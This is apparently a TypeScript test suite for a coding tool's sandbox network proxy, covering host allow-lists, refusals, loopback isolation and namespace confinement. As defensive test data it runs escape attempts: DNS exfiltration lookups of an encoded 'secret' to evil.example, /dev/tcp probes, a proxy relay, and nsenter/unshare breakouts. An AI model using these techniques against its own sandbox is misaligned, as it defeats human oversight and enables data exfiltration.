// The host list in the real sandbox: what a command reaches through the proxy, and that there is no other way.
import {
	copyFileSync,
	linkSync,
	mkdirSync,
	readdirSync,
	readFileSync,
	readlinkSync,
	rmSync,
	writeFileSync,
} from 'node:fs'
import { createServer as createSecure } from 'node:https'
import { type AddressInfo, connect, createServer, type Server } from 'node:net'
import { join } from 'node:path'
import { setTimeout as delay } from 'node:timers/promises'
import { expect } from 'chai'
import type { Executor, RunSpec } from '../../../src/engine/ports.ts'
import { createExecutor } from '../../../src/engine/sandbox/index.ts'
import { openNamespace } from '../../../src/engine/sandbox/namespace-holder.ts'
import { loopbackNetwork, type NetworkOptions, proxyEnvironment } from '../../../src/engine/sandbox/network.ts'
import { findBubblewrap, findNsenter } from '../../../src/engine/sandbox/programs.ts'
import { seatbeltProfile } from '../../../src/engine/sandbox/seatbelt.ts'
import { skip } from '../../helpers/skip.ts'
import { asNobody, readableCopy } from './copy.ts'
import { type Fixture, makeFixture } from './fixture.ts'
import { publicAddress } from './proxy-kit.ts'

const never = new AbortController().signal

/** Sockets of this process that listen, by inode, and those the host's table of listening sockets has. */
const ownListeners = (): string[] => {
	const own = new Set(
		readdirSync('/proc/self/fd').flatMap((fd) => {
			try {
				return /socket:\[(\d+)\]/.exec(readlinkSync(`/proc/self/fd/${fd}`))?.[1] ?? []
			} catch {
				return []
			}
		}),
	)
	return ['tcp', 'tcp6'].flatMap((table) =>
		readFileSync(`/proc/self/net/${table}`, 'utf8')
			.split('\n')
			.map((line) => line.trim().split(/\s+/))
			.filter((fields) => fields[3] === '0A' && own.has(fields[9]!))
			.map((fields) => fields[1]!),
	)
}

const linkOrCopy = (from: string, to: string): void => {
	try {
		linkSync(from, to)
	} catch {
		copyFileSync(from, to)
	}
}

describe('sandbox: network of a host list', function () {
	this.timeout(60_000)
	let fixture: Fixture
	let executor: Executor
	let origin: Server
	const looked: string[] = []
	const network = (more: Partial<NetworkOptions> = {}): NetworkOptions => ({
		hosts: ['ok.example', '*.reg.example'],
		lookup: async (host) => {
			looked.push(host)
			return [{ address: host === 'inside.reg.example' ? '169.254.169.254' : publicAddress }]
		},
		dial: () => connect((origin.address() as AddressInfo).port, '127.0.0.1'),
		...more,
	})
	const run = (script: string, more: Partial<RunSpec> = {}) =>
		executor.run({ script, cwd: fixture.root, timeoutMs: 15_000, ...more }, never)
	/** A request through the tunnel, without TLS: the proxy does not look into it. */
	const fetched = (host: string) => `curl -sS -m 10 -p http://${host}:80/`

	before(async () => {
		fixture = makeFixture()
		origin = createServer((socket) => {
			socket.on('error', () => {})
			socket.once('data', () =>
				socket.end('HTTP/1.1 200 OK\r\ncontent-length: 8\r\nconnection: close\r\n\r\nREACHED\n'),
			)
		})
		await new Promise<void>((resolve) => origin.listen(0, '127.0.0.1', resolve))
		executor = (await createExecutor(fixture.options({ network: network() }))).executor
	})
	after(async () => {
		await executor.close()
		origin.close()
		await fixture.remove()
	})

	it('reaches a listed host, in build and in plan mode', async () => {
		for (const readOnly of [false, true]) {
			const result = await run(fetched('ok.example'), { readOnly })
			expect(result).to.include({ output: 'REACHED\n', code: 0 })
			expect((await run(fetched('a.reg.example'), { readOnly })).output).to.equal('REACHED\n')
		}
		expect((await run('touch x', { readOnly: true })).code).to.not.equal(0)
	})

	it('https by curl, Python and Node passes the tunnel, certificate checked end to end', async () => {
		// By a path in the root: this program may lie in /tmp, which commands do not see.
		linkOrCopy(process.execPath, join(fixture.root, 'node'))
		const tmp = join(fixture.base, 'secure')
		mkdirSync(tmp)
		const pem = (name: string) => readFileSync(new URL(`../../fixtures/web/${name}`, import.meta.url))
		const secure = createSecure({ key: pem('server.key'), cert: pem('server.pem') }, (_, response) =>
			response.end('SECURE\n'),
		)
		await new Promise<void>((resolve) => secure.listen(0, '127.0.0.1', resolve))
		const dial = () => connect((secure.address() as AddressInfo).port, '127.0.0.1')
		const made = (await createExecutor(fixture.options({ tmp, network: network({ dial }) }))).executor
		writeFileSync(join(fixture.root, 'ca.pem'), pem('server.pem'))
		const result = await made.run(
			{
				script: `curl -sS -m 10 --cacert ca.pem https://ok.example/
				SSL_CERT_FILE=ca.pem python3 -c 'import urllib.request as u; print(u.urlopen("https://ok.example/", timeout=10).read().decode(), end="")'
				NODE_EXTRA_CA_CERTS=ca.pem ./node -e 'fetch("https://ok.example/").then(r => r.text()).then(t => process.stdout.write(t))'
				curl -sS -m 10 --cacert ca.pem --connect-to evil.example:443:ok.example:443 https://evil.example/`,
				cwd: fixture.root,
				timeoutMs: 30_000,
			},
			never,
		)
		await made.close()
		await new Promise((resolve) => secure.close(resolve))
		expect(result.output.split('\n').slice(0, 3), result.output).to.deep.equal(['SECURE', 'SECURE', 'SECURE'])
		expect(result.output, 'net-17').to.include('names another host, evil.example')
	})

	it('refuses an unlisted host with 403, names it as the wall and in a note for the model', async () => {
		const result = await run(fetched('no.example'))
		expect(result.code).to.not.equal(0)
		expect(result.output).to.include('403')
		expect(result.output).to.include('[note: the network refused no.example:80 (it is not on the list of hosts)]')
		expect(result.wall).to.deep.equal({ wall: 'network', detail: 'no.example:80 (it is not on the list of hosts)' })
		const apart = await run(fetched('no.example'), { separate: true })
		expect(apart.output).to.equal('')
		expect(apart.stderr).to.include('[note: the network refused')
		expect((await run(`${fetched('inside.reg.example')}`)).wall?.detail).to.include('169.254.169.254')
	})

	it('asks about an unlisted host while the command runs, once for all of its tries', async () => {
		const asked: string[] = []
		const reachHost = (allowed: boolean) => async (host: string, port: number) => {
			asked.push(`${host}:${port}`)
			return allowed
		}
		const both = `${fetched('new.example')}; ${fetched('new.example')}`
		expect((await run(both, { reachHost: reachHost(true) })).output).to.equal('REACHED\nREACHED\n')
		expect((await run(both, { reachHost: reachHost(false) })).output).to.not.include('REACHED')
		expect((await run(both)).output, 'a command that may not ask').to.not.include('REACHED')
		expect(asked).to.deep.equal(['new.example:80', 'new.example:80'])
	})

	it('net-02 there is no resolver: names are resolved by the proxy alone, and only those that may be reached', async () => {
		looked.length = 0
		const result = await run(
			[
				'getent hosts c2VjcmV0.evil.example && echo LEAK',
				'getent hosts ok.example && echo LEAK',
				`python3 -c 'import socket; socket.getaddrinfo("x.evil.example", 80)' 2>/dev/null && echo LEAK`,
				// A question sent by hand to any resolver.
				`for at in 127.0.0.53 8.8.8.8 $(sed -n 's/^nameserver //p' /etc/resolv.conf); do (printf 'aaaa' >/dev/udp/$at/53) 2>/dev/null && (exec 3<>/dev/tcp/$at/53) 2>/dev/null && echo LEAK; done`,
				fetched('c2VjcmV0.evil.example'),
			].join('\n'),
		)
		expect(result.output).to.not.include('LEAK')
		expect(looked).to.deep.equal([])
	})

	it('net-18 a relay inside the sandbox gets the same verdict', async () => {
		const relay = `python3 - <<'E' &
import socket, threading
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(('127.0.0.1', 9191)); s.listen(5)
def pump(a, b):
    while True:
        d = a.recv(4096)
        if not d: break
        b.sendall(d)
    b.close()
while True:
    c, _ = s.accept(); u = socket.create_connection(('127.0.0.1', 3128))
    threading.Thread(target=pump, args=(c, u), daemon=True).start(); threading.Thread(target=pump, args=(u, c), daemon=True).start()
E
for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20; do (exec 3<>/dev/tcp/127.0.0.1/9191) 2>/dev/null && break; sleep 0.1; done
`
		const result = await run(
			`${relay}curl -sS -m 5 -x http://127.0.0.1:9191 -p http://no.example:80/; curl -sS -m 5 -x http://127.0.0.1:9191 -p http://ok.example:80/`,
		)
		expect(result.output).to.match(/403[\s\S]*REACHED/)
		expect(result.output.match(/REACHED/g)).to.have.length(1)
	})

	it('net-24 the loopback is the sandbox own: no service of the host answers, and a server of the command does', async () => {
		const port = (origin.address() as AddressInfo).port
		const direct = await run(
			`curl -sS --noproxy '*' -m 3 http://127.0.0.1:${port}/; curl -sS --noproxy '*' -m 3 http://[::1]:${port}/`,
		)
		expect(direct.output).to.not.include('REACHED')
		expect(
			(await run(`curl -sS -m 3 --noproxy '' -p -x http://127.0.0.1:3128 http://127.0.0.1:80/`)).output,
		).to.include('403')
		for (const ip of ['1.1.1.1', '169.254.169.254', publicAddress])
			expect((await run(`timeout 3 bash -c 'exec 3<>/dev/tcp/${ip}/80' && echo OUT`)).output).to.not.include('OUT')
		const own = await run(
			`mkdir -p web && echo MINE > web/a && (cd web && exec python3 -m http.server 9292 --bind 127.0.0.1 >/dev/null 2>&1) &
			for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20 21 22 23 24 25 26 27 28 29 30; do curl -sf http://localhost:9292/a && break; sleep 0.1; done`,
		)
		expect(own.output).to.include('MINE')
	})

	it('net-25 there is no socket in the file system to replace, and the port cannot be taken or configured', async () => {
		const result = await run(
			`find /tmp /run /var/tmp /dev/shm "$HOME" . -type s 2>/dev/null | grep . && echo FOUND
			python3 -c 'import socket; s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1); s.bind(("127.0.0.1", 3128)); s.listen(); print("TAKEN")' 2>/dev/null
			ip link set lo down 2>/dev/null && echo DOWN; ip addr add 10.9.9.9/8 dev lo 2>/dev/null && echo ADDED; ip route add default dev lo 2>/dev/null && echo ROUTED
			nsenter -t 1 -n true 2>/dev/null && echo ENTERED; nsenter -t 1 -U true 2>/dev/null && echo ENTERED
			ls -l /proc/self/fd | grep -e 'net:\\[' -e 'user:\\[' && echo NAMESPACE
			${fetched('ok.example')}`,
		)
		expect(result.output).to.equal('REACHED\n')
	})

	it('net-26 an offline run (hooks, language servers) has an empty namespace: nothing listens, no variable names a proxy', async () => {
		const result = await run(
			`(exec 3<>/dev/tcp/127.0.0.1/3128) 2>/dev/null && echo LISTENS
			curl -sS -m 3 -x http://127.0.0.1:3128 -p http://ok.example:80/; env | grep -i proxy; cat /proc/net/tcp | wc -l`,
			{ offline: true },
		)
		expect(result.output).to.not.match(/REACHED|LISTENS|proxy=/i)
		expect(result.output.trim().split('\n').at(-1)).to.equal('1')
		// While an online command runs beside it, too.
		const [online, offline] = await Promise.all([
			run('sleep 0.5'),
			run(`sleep 0.1; (exec 3<>/dev/tcp/127.0.0.1/3128) 2>/dev/null && echo LISTENS`, { offline: true }),
		])
		expect([online.code, offline.output]).to.deep.equal([0, ''])
	})

	it('net-28 Garuda listens on no port of the host', async () => {
		const before = ownListeners()
		expect(before, 'the control: this test itself listens').to.have.length(1)
		await run('true')
		expect(ownListeners()).to.deep.equal(before)
		const other = createServer().listen(0, '127.0.0.1')
		await new Promise((resolve) => other.once('listening', resolve))
		expect(ownListeners(), 'the control: a new one is seen').to.have.length(2)
		await new Promise((resolve) => other.close(resolve))
	})

	it('without a list, and with an empty one (config-24), there is no network and no variable', async () => {
		for (const more of [{}, { network: network({ hosts: [] }) }]) {
			const tmp = join(fixture.base, 'other')
			mkdirSync(tmp)
			const plain = (await createExecutor(fixture.options({ tmp, ...more }))).executor
			const script = `env | grep -i proxy; (exec 3<>/dev/tcp/127.0.0.1/3128) 2>/dev/null && echo LISTENS; ${fetched('ok.example')}`
			const result = await plain.run(
				{ script, cwd: fixture.root, timeoutMs: 10_000, reachHost: async () => true },
				never,
			)
			await plain.close()
			rmSync(tmp, { recursive: true, force: true })
			expect(result.code).to.not.equal(0)
			expect(result.output).to.not.match(/REACHED|LISTENS|_proxy=/i)
		}
	})

	it('commands keep their confinement: no capability, no way into another user namespace, ids as ever', async () => {
		const inside = await run(
			`grep -E '^(CapEff|CapBnd|NoNewPrivs|Seccomp):' /proc/self/status; unshare -Ur true 2>/dev/null && echo NESTED; id -u`,
		)
		const offline = await run(
			`grep -E '^(CapEff|CapBnd|NoNewPrivs|Seccomp):' /proc/self/status; unshare -Ur true 2>/dev/null && echo NESTED; id -u`,
			{
				offline: true,
			},
		)
		expect(inside.output).to.equal(offline.output)
		expect(inside.output).to.match(/CapEff:\s+0{16}/)
		expect(inside.output).to.not.include('NESTED')
	})

	it('is ready within 150 ms by the median, and leaves no process behind', async () => {
		const programs = { bwrap: findBubblewrap()!, nsenter: findNsenter()! }
		const times: number[] = []
		/** This process's children that are a helper, or bubblewrap around one. */
		const helpers = () =>
			readFileSync(`/proc/self/task/${process.pid}/children`, 'utf8')
				.trim()
				.split(' ')
				.filter((pid) => {
					try {
						return readFileSync(`/proc/${pid}/cmdline`, 'latin1').includes('createServer()')
					} catch {
						return false
					}
				})
		const opening = openNamespace(programs)
		expect(helpers(), 'the control: it is seen while it runs').to.have.length(1)
		;(await opening).close()
		for (let round = 0; round < 5; round++) {
			const start = performance.now()
			const namespace = await openNamespace(programs)
			times.push(performance.now() - start)
			namespace.close()
			namespace.close()
		}
		for (let tries = 0; tries < 50 && helpers().length > 0; tries++) await delay(20)
		expect(helpers()).to.deep.equal([])
		// Three times the aim: other work may run beside this; the bench holds the aim itself.
		expect(times.sort((a, b) => a - b)[2]).to.be.below(450)
	})

	it('where the namespace cannot be made there is a reason, and the next command tries again', async () => {
		const tmp = join(fixture.base, 'broken')
		mkdirSync(tmp)
		const { namespaceNetwork } = await import('../../../src/engine/sandbox/network.ts')
		const broken = namespaceNetwork(network(), { bwrap: '/bin/false', nsenter: findNsenter()! })
		const joined = await broken.join({})
		expect(joined).to.have.property('reason').that.includes('could not be made')
		broken.close()
	})

	it('works as an ordinary user', function () {
		if (process.getuid?.() !== 0) return skip(this, 'only root can do this')
		const copy = readableCopy()
		try {
			const [root, home, tmp] = ['r', 'h', 't'].map((name) => join(copy, 'tmp', name)) as [string, string, string]
			const script = `curl -sS -m 5 --noproxy '' -p http://127.0.0.1:80/; curl -sS -m 5 -p http://no.example:80/; env | grep ^HTTPS_PROXY; (exec 3<>/dev/tcp/127.0.0.1/3128) && echo LISTENS`
			const ran = asNobody(copy, ['network', root, home, tmp, script])
			expect(ran.status, ran.stderr).to.equal(0)
			const { result } = JSON.parse(ran.stdout)
			expect(result.output).to.match(/403[\s\S]*403/)
			expect(result.output).to.include('LISTENS')
			expect(result.output).to.include('HTTPS_PROXY=http://127.0.0.1:3128')
		} finally {
			rmSync(copy, { recursive: true, force: true })
		}
	})
})

describe('sandbox: network words', () => {
	it('the variables name the proxy in both cases, and this machine stays direct', () => {
		const env = proxyEnvironment('http://127.0.0.1:3128')
		for (const name of ['HTTP_PROXY', 'HTTPS_PROXY', 'ALL_PROXY', 'http_proxy', 'https_proxy', 'all_proxy'])
			expect(env[name]).to.equal('http://127.0.0.1:3128')
		for (const name of ['NO_PROXY', 'no_proxy'])
			expect(env[name]!.split(',')).to.have.members(['localhost', '127.0.0.1', '::1'])
		expect(env.MAVEN_OPTS).to.include('-Dhttps.proxyHost=127.0.0.1 -Dhttps.proxyPort=3128')
	})

	it('on macOS Seatbelt opens the one port of the proxy on this machine, and nothing without it', () => {
		const options = {
			roots: ['/p'],
			home: '/h',
			tmp: '/t',
			writable: [],
			denyRead: [],
			protect: [],
			readOnly: false,
			blockUnix: true,
		}
		const open = (text: string) => text.split('\n').filter((line) => /\(allow[^)]*network/.test(line))
		expect(open(seatbeltProfile(options))).to.deep.equal([])
		expect(open(seatbeltProfile({ ...options, proxyPort: 51234 }))).to.deep.equal([
			'(allow network-outbound (remote ip "localhost:51234"))',
		])
		const text = seatbeltProfile({ ...options, proxyPort: 51234 })
		expect(text.indexOf('(deny network*)')).to.be.below(text.indexOf('localhost:51234'))
	})

	it('the macOS proxy listens on this machine only, and for nobody without its password', async () => {
		const network = loopbackNetwork({ hosts: ['ok.example'] })
		const joined = await network.join({})
		if ('reason' in joined) throw new Error(joined.reason)
		expect(joined.env.HTTPS_PROXY).to.match(new RegExp(`^http://garuda:[0-9a-f]{36}@127\\.0\\.0\\.1:${joined.port}$`))
		const said = await new Promise<string>((resolve) => {
			const socket = connect(joined.port, '127.0.0.1', () => socket.write('CONNECT ok.example:443 HTTP/1.1\r\n\r\n'))
			socket.once('data', (bytes) => resolve(bytes.toString()))
		})
		expect(said).to.match(/^HTTP\/1\.1 407/)
		network.close()
	})
})
